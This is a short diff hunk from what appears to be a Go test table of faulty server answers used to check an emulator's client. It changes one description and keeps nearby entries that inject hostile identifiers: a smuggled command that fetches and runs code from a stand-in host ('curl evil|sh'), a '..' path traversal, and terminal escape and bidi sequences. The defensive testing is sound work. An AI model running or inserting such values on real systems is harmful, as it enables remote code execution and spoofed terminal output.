@@ -55,7 +55,7 @@ func lies() map[string]fault {
 		"`302` to another host, after the work":                  {answer: redirect},
 		"The answer to an earlier request, after the work":       {answer: func(c *cell, op emulator.Op) emulator.Fault { return c.replayed(op, true) }},
 		"The answer to an earlier request, before any work":      {answer: func(c *cell, op emulator.Op) emulator.Fault { return c.replayed(op, false) }},
-		"`201` with a key set that was there before":             {answer: existing},
+		"`201` with an empty key set that was there before":      {answer: existing},
 		"The `kid` or `id` is `..`":                              named(".."),
 		"The `kid` or `id` is a command":                         named("a/b; curl evil|sh"),
 		"The `kid` or `id` has line breaks and escape sequences": named("a\nNo changes.\x1b[2J\x1b]0;title\a\u009b31m\u202e"),
